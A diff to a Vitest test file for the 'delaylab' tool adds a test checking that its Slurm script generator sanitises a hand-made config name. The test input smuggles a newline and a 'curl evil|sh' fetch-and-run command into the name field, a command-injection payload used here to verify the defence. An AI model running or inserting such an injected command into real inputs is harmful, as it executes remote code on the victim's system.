@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { BENCH, BIN, run, tempFile } from './testUtils.ts';
+import { slurmScript } from './sweep.ts';
 
 interface SweepJson {
   finished: number;
@@ -138,6 +139,22 @@ describe('delaylab sweep (the four-way ablation)', () => {
       /Sparse \(96\.9 % of synapses absent\) vs dense \(shd shape, batch 2\): [\d.]+x the samples\/s/,
     );
   }, 240_000);
+
+  it('keeps a config name from a hand-made link out of the Slurm script commands', () => {
+    const manifest = {
+      version: 1 as const,
+      base: 'x\ncurl evil|sh',
+      epochs: 1,
+      sparsities: [50],
+      seeds: [1],
+      data: null,
+      cells: [],
+    };
+    const script = slurmScript('/tmp/sweep out', manifest);
+    expect(script).not.toMatch(/^curl/m);
+    expect(script).toMatch(/^#SBATCH --job-name=delaylab-x_curl_evil_sh$/m);
+    expect(script).toMatch(/^#SBATCH --output="\/tmp\/sweep out\/slurm-%A_%a.log"$/m);
+  });
 
   it('lists failed cells and exits 1; refuses a bad list or a missing manifest', () => {
     const out = mkdtempSync(join(tmpdir(), 'delaylab-fail-'));
